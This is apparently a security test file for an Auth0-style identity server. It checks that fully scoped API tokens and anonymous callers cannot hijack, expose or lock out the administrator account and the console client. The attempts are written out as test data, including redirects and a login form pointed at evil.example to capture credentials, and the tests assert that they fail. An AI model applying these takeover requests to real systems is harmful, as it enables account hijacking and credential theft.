import { sql } from 'kysely';
import type { TSchema } from 'typebox';
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import {
  ADMINISTRATORS,
  appoint,
  arrive,
  CONSOLE,
  follow,
  signIn,
} from '../console/administrator.ts';
import { startRegisteredApp } from '../harness/application.ts';
import { BOOTSTRAP, DEFAULT_CONNECTION, startServer, type TestServer } from '../harness/harness.ts';
import { plainBrowser } from '../harness/plain-browser.ts';

const EMAIL = 'owner@example.com';
const PASSWORD = 'Tulip-Canal-77-Barge';
let server: TestServer;
let adminId: string;
let organizationId: string;
let roleId: string;
let app: Awaited<ReturnType<typeof startRegisteredApp>>;

beforeAll(async () => {
  server = await startServer();
  app = await startRegisteredApp(server);
  await arrive(await appoint(server, EMAIL), PASSWORD);
  const { db } = server.app.deps;
  const { rows } = await sql<{ id: string }>`select id from users where email = ${EMAIL}`.execute(
    db,
  );
  adminId = rows[0]?.id ?? '';
  await sql`insert into authentication_methods (id, user_id, kind, confirmed, secret, created_at)
    values ('dev_of_the_owner', ${adminId}, 'totp', true, '\\x00', now())`.execute(db);
  // The case has an unused link and a name with too many attempts.
  await appoint(server, EMAIL);
  await sql`insert into login_blocks (key, subject, connection_id, identifier, ip, created_at, ends_at)
    values ('k', 's', ${ADMINISTRATORS.id}, ${EMAIL}, '', now(), now() + interval '1 day')`.execute(
    db,
  );
  const organization = await server.api<{ id: string }>('POST', '/api/v2/organizations', {
    name: 'acme',
  });
  organizationId = organization.body.id;
  roleId = (await server.api<{ id: string }>('POST', '/api/v2/roles', { name: 'r' })).body.id;
}, 120_000);

/** Every row of every table in which something of the administrators or the console is named. */
async function everythingOfTheirs(): Promise<Record<string, string[]>> {
  const { db } = server.app.deps;
  const tables = await sql<{ name: string }>`
    select tablename as name from pg_tables where schemaname = 'public'
      and tablename not in ('logs', 'log_head', 'migrations') order by 1`.execute(db);
  const found: Record<string, string[]> = {};
  for (const { name } of tables.rows) {
    const { rows } = await sql<{ row: string }>`
      select t::text as row from ${sql.table(name)} as t
      where t::text like any(${sql`array[${`%${adminId}%`}, ${`%${ADMINISTRATORS.id}%`}, ${`%${CONSOLE}%`}, ${`%${EMAIL}%`}]`}::text[])
      order by 1`.execute(db);
    if (rows.length > 0) found[name] = rows.map(({ row }) => row);
  }
  return found;
}

let before: Record<string, string[]>;
beforeEach(async () => {
  before = await everythingOfTheirs();
  expect(Object.keys(before)).toEqual(
    expect.arrayContaining([
      'users',
      'passwords',
      'administrators',
      'tickets',
      'clients',
      'oidc_payloads',
    ]),
  );
});
afterEach(async () => {
  expect(await everythingOfTheirs()).toEqual(before);
});

const TARGETS = () => [adminId, ADMINISTRATORS.id, CONSOLE];
const call = (method: string, path: string, body?: unknown) =>
  server.api<{ errorCode?: string }>(method, `/api/v2${path}`, body);

/** Returns the answers that were not refusals. */
async function unrefused(attempts: [string, string, unknown?][]): Promise<string[]> {
  const wrong: string[] = [];
  for (const [method, path, body] of attempts) {
    const answer = await call(method, path, body);
    if (answer.status === 403 && answer.body.errorCode === 'protected_target') continue;
    wrong.push(
      `${method} ${path} ${JSON.stringify(body) ?? ''}: ${answer.status} ${answer.text.slice(0, 200)}`,
    );
  }
  return wrong;
}

/** Bodies with the text at each place where the schema allows one. Free text may have it. */
function bodiesWith(schema: TSchema, text: string): unknown[] {
  const {
    properties = {},
    items,
    anyOf = [],
    type,
  } = schema as {
    properties?: Record<string, TSchema>;
    items?: TSchema;
    anyOf?: TSchema[];
    type?: string;
  };
  if (type === 'string') return [text];
  if (items) return bodiesWith(items, text).map((each) => [each]);
  const inside = Object.entries(properties)
    .filter(([key]) => !/(^|_)(metadata|data|description|name)$/.test(key))
    .flatMap(([key, one]) => bodiesWith(one, text).map((value) => ({ [key]: value })));
  return [...inside, ...anyOf.flatMap((tSchema) => bodiesWith(tSchema, text))];
}

describe('a token with every scope', () => {
  test('is refused if the path names an administrator, their connection or the console', async () => {
    const attempts = server.app.routes.flatMap(({ method, url }) => {
      const names = url.match(/:\w+/g) ?? [];
      return names
        .filter((name) => name !== ':name')
        .flatMap((name) =>
          TARGETS().map((target): [string, string] => [
            method,
            url.replace(name, encodeURIComponent(target)).replace(/:\w+/g, organizationId),
          ]),
        );
    });
    expect(attempts.length).toBeGreaterThan(300);
    expect(await unrefused(attempts)).toEqual([]);
  });

  test('is refused if the query or the body names one of them', async () => {
    const attempts = server.app.routes.flatMap(({ method, url, body, query }) => {
      const path = url.replace(/:\w+/g, organizationId);
      return TARGETS().flatMap((target): [string, string, unknown?][] => [
        ...query
          .filter((name) => name !== 'name')
          .map((name): [string, string] => [
            method,
            `${path}?${name}=${encodeURIComponent(target)}`,
          ]),
        ...(body === undefined || url === '/jobs/users-imports'
          ? []
          : bodiesWith(body, target)
        ).map((each): [string, string, unknown] => [method, path, each]),
      ]);
    });
    expect(attempts.length).toBeGreaterThan(500);
    expect(await unrefused(attempts)).toEqual([]);
  });

  test('is refused even if only the target makes a request wrong', async () => {
    const admin = encodeURIComponent(adminId);
    const [, localId] = adminId.split('|');
    const somebody = await server.api<{ user_id: string }>('POST', '/api/v2/users', {
      connection: DEFAULT_CONNECTION,
      email: 'somebody@example.com',
      password: 'Canal-Tulip-88-Lock',
    });
    const other = encodeURIComponent(somebody.body.user_id);
    expect(
      await unrefused([
        [
          'PATCH',
          `/users/${admin}`,
          { password: 'Mine-Now-4711', connection: ADMINISTRATORS.name },
        ],
        ['PATCH', `/users/${admin}`, { app_metadata: {} }],
        ['PATCH', `/users/${admin}`, { blocked: true }],
        ['PATCH', `/users/${admin}`, { email: 'me@evil.example' }],
        ['DELETE', `/users/${admin}`],
        ['DELETE', `/connections/${ADMINISTRATORS.id}/users?email=${EMAIL}`],
        [
          'POST',
          '/users',
          { connection: ADMINISTRATORS.name, email: 'two@example.com', password: 'Mine-Now-4711' },
        ],
        ['POST', '/tickets/password-change', { user_id: adminId }],
        ['POST', '/tickets/password-change', { connection_id: ADMINISTRATORS.id, email: EMAIL }],
        ['POST', '/tickets/email-verification', { user_id: adminId }],
        ['POST', '/jobs/verification-email', { user_id: adminId }],
        ['POST', '/jobs/users-exports', { connection_id: ADMINISTRATORS.id }],
        [
          'POST',
          '/invitations',
          { connection_id: ADMINISTRATORS.id, recipients: [{ email: EMAIL }], return_links: true },
        ],
        [
          'POST',
          '/invitations',
          { connection_id: ADMINISTRATORS.id, recipients: [{ email: 'new@example.com' }] },
        ],
        [
          'POST',
          '/invitations',
          { client_id: CONSOLE, recipients: [{ email: 'new@example.com' }], return_links: true },
        ],
        ['POST', '/guardian/enrollments/ticket', { user_id: adminId }],
        ['GET', '/guardian/enrollments/totp%7Cdev_of_the_owner'],
        ['DELETE', '/guardian/enrollments/totp%7Cdev_of_the_owner'],
        [
          'POST',
          `/users/${admin}/identities`,
          { provider: 'auth0', user_id: somebody.body.user_id },
        ],
        ['POST', `/users/${other}/identities`, { provider: 'usher', user_id: localId }],
        ['POST', `/users/${other}/identities`, { provider: 'auth0', user_id: adminId }],
        ['POST', `/roles/${roleId}/users`, { users: [adminId] }],
        ['POST', `/users/${admin}/roles`, { roles: [roleId] }],
        ['POST', `/organizations/${organizationId}/members`, { members: [adminId] }],
        [
          'POST',
          `/organizations/${organizationId}/enabled_connections`,
          { connection_id: ADMINISTRATORS.id, assign_membership_on_login: true },
        ],
        [
          'POST',
          `/organizations/${organizationId}/invitations`,
          { client_id: CONSOLE, inviter: { name: 'x' }, invitee: { email: 'new@example.com' } },
        ],
        ['PATCH', `/clients/${CONSOLE}`, { callbacks: ['https://evil.example/'] }],
        ['DELETE', `/clients/${CONSOLE}`],
        ['POST', `/clients/${CONSOLE}/rotate-secret`],
        [
          'POST',
          '/client-grants',
          { client_id: CONSOLE, audience: `${server.url}/api/v2/`, scope: [] },
        ],
        ['PATCH', `/connections/${ADMINISTRATORS.id}`, { options: { passwordPolicy: 'none' } }],
        ['DELETE', `/connections/${ADMINISTRATORS.id}`],
        [
          'PATCH',
          `/connections/${ADMINISTRATORS.id}/clients`,
          [{ client_id: app.clientId, status: true }],
        ],
        ['POST', `/users/${admin}/revoke-access`, {}],
        ['DELETE', `/grants?user_id=${admin}`],
        ['POST', '/refresh-tokens/revoke', { user_id: adminId }],
      ]),
    ).toEqual([]);
    const form = new FormData();
    form.append('connection_id', ADMINISTRATORS.id);
    form.append('upsert', 'true');
    form.append(
      'users',
      new Blob([JSON.stringify([{ email: EMAIL, email_verified: true }])]),
      'users.json',
    );
    expect(await unrefused([['POST', '/jobs/users-imports', form]])).toEqual([]);
  });

  test('is refused if the invitations of an import name one of them', async () => {
    const { body: found } = await server.api<{ id: string }[]>(
      'GET',
      `/api/v2/connections?name=${DEFAULT_CONNECTION}`,
    );
    const connectionId = found[0]?.id ?? '';
    for (const plan of [
      { client_id: null, connections: [connectionId, ADMINISTRATORS.id] },
      { client_id: CONSOLE },
    ]) {
      const form = new FormData();
      form.append('connection_id', connectionId);
      form.append('send_invitations', JSON.stringify(plan));
      form.append(
        'users',
        new Blob([JSON.stringify([{ email: 'new@example.com' }])]),
        'users.json',
      );
      expect(await unrefused([['POST', '/jobs/users-imports', form]])).toEqual([]);
    }
  });

  test('finds no administrators in lists and no sessions of theirs by id', async () => {
    const { db } = server.app.deps;
    const payloads = await sql<{ id: string }>`
      select distinct coalesce(uid, id_hash) as id from oidc_payloads where account_id = ${adminId}`.execute(
      db,
    );
    expect(payloads.rows.length).toBeGreaterThan(0);
    for (const { id } of payloads.rows) {
      for (const [method, path] of [
        ['GET', `/sessions/${id}`],
        ['DELETE', `/sessions/${id}`],
        ['POST', `/sessions/${id}/revoke`],
        ['PATCH', `/sessions/${id}`],
        ['DELETE', `/refresh-tokens/${id}`],
        ['DELETE', `/grants/${id}`],
      ] as const) {
        await call(method, path, method === 'PATCH' ? { session_metadata: { a: 'b' } } : undefined);
      }
    }
    await call('DELETE', `/user-blocks?identifier=${EMAIL}`);
    for (const path of [
      '/users?per_page=100',
      '/users?take=100',
      `/users?q=email:${EMAIL}`,
      '/users?q=*&include_totals=true',
      `/users-by-email?email=${EMAIL}`,
      `/user-blocks?identifier=${EMAIL}`,
      '/connections',
      '/connections?take=50',
      '/clients',
      '/clients?take=50',
      '/grants',
      '/client-grants',
      '/invitations',
    ]) {
      const { status, text } = await call('GET', path);
      expect([path, status]).toEqual([path, 200]);
      for (const secret of [adminId, ADMINISTRATORS.id, ADMINISTRATORS.name, CONSOLE, EMAIL]) {
        expect([path, text.includes(secret)]).toEqual([path, false]);
      }
    }
  });
});

test('a token that writes login page HTML does not read what administrators type there', async () => {
  const template =
    '<!DOCTYPE html><html><head>{%- auth0:head -%}</head><body><form action="https://evil.example/">{%- auth0:widget -%}</form></body></html>';
  // Fields that the scope may set are set only here.
  const set = await call('PUT', '/branding/templates/universal-login', { template });
  expect([201, 204]).toContain(set.status);
  const partial = { login: { 'form-content-start': '<p>evil</p>' } };
  expect((await call('PUT', '/prompts/login/partials', partial)).status).toBe(200);
  const console_ = await signIn(server, EMAIL, 'a wrong password');
  expect(console_.page).toContain('name="password"');
  expect(console_.page).not.toContain('evil');
  // At an application they count.
  const browser = plainBrowser();
  const start = `${app.url}/login`;
  expect((await follow(browser, await browser.open(start), start)).page).toContain('evil.example');
  await call('DELETE', '/branding/templates/universal-login');
  before = await everythingOfTheirs();
});

describe('a stranger without a token', () => {
  const post = (path: string, body: object) =>
    fetch(`${server.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  test('cannot sign up as an administrator through any client', async () => {
    for (const client_id of [CONSOLE, app.clientId, BOOTSTRAP.id, undefined]) {
      for (const connection of [ADMINISTRATORS.name, ADMINISTRATORS.id]) {
        const asked = { client_id, connection, email: 'new@example.com', password: PASSWORD };
        const answer = await post('/dbconnections/signup', asked);
        expect([client_id, answer.status]).toEqual([client_id, 400]);
      }
    }
  });

  test('cannot have a link mailed to an administrator', async () => {
    for (const client_id of [CONSOLE, app.clientId, undefined]) {
      await post('/dbconnections/change_password', {
        client_id,
        connection: ADMINISTRATORS.name,
        email: EMAIL,
      });
    }
    await post('/passwordless/start', {
      client_id: CONSOLE,
      connection: 'email',
      email: EMAIL,
      send: 'code',
    });
    await server.app.flushLog();
    const { rows } = await sql`select id from messages where recipient = ${EMAIL}`.execute(
      server.app.deps.db,
    );
    expect(rows).toEqual([]);
    expect(server.sink.mails.filter((mail) => JSON.stringify(mail).includes(EMAIL))).toEqual([]);
  });

  test('cannot lock users out by deleting the default API', async () => {
    const made = await server.api<{ id: string }>('POST', '/api/v2/resource-servers', {
      identifier: 'urn:gone',
    });
    await call('PATCH', '/tenants/settings', { default_audience: 'urn:gone' });
    await call('DELETE', `/resource-servers/${made.body.id}`);
    const answer = await fetch(
      `${server.url}/authorize?client_id=${app.clientId}&response_type=code&scope=openid&redirect_uri=${encodeURIComponent(`${app.url}/callback`)}`,
      { redirect: 'manual' },
    );
    await call('PATCH', '/tenants/settings', { default_audience: '' });
    expect(answer.headers.get('location')).toContain('/u/login');
  });

  test('cannot lock administrators out of the console through the default API', async () => {
    await call('POST', '/resource-servers', {
      identifier: 'urn:closed',
      subject_type_authorization: { user: { policy: 'deny_all' } },
    });
    await call('PATCH', '/tenants/settings', { default_audience: 'urn:closed' });
    const begun = await fetch(`${server.url}/console/login`, { redirect: 'manual' });
    const login = new URL(begun.headers.get('location') ?? '', server.url);
    const answer = await fetch(login, { redirect: 'manual' });
    await call('PATCH', '/tenants/settings', { default_audience: '' });
    expect(answer.headers.get('location')).toContain('/u/login');
  });

  test('cannot use an administrator’s password outside the console', async () => {
    for (const client of [
      { client_id: BOOTSTRAP.id, client_secret: BOOTSTRAP.secret },
      { client_id: app.clientId },
      { client_id: CONSOLE },
    ]) {
      for (const realm of [ADMINISTRATORS.name, ADMINISTRATORS.id, undefined]) {
        const answer = await post('/oauth/token', {
          ...client,
          grant_type:
            realm === undefined ? 'password' : 'http://auth0.com/oauth/grant-type/password-realm',
          username: EMAIL,
          password: PASSWORD,
          ...(realm !== undefined && { realm }),
        });
        expect(answer.status).toBeGreaterThanOrEqual(400);
        expect(await answer.json()).not.toHaveProperty('access_token');
      }
    }
    for (const connection of ['', `&connection=${encodeURIComponent(ADMINISTRATORS.name)}`]) {
      const answer = await fetch(
        `${server.url}/authorize?client_id=${app.clientId}&response_type=code&scope=openid&redirect_uri=${encodeURIComponent(`${app.url}/callback`)}${connection}&prompt=none`,
        { redirect: 'manual' },
      );
      expect(answer.headers.get('location') ?? '').not.toContain('code=');
    }
  });
});
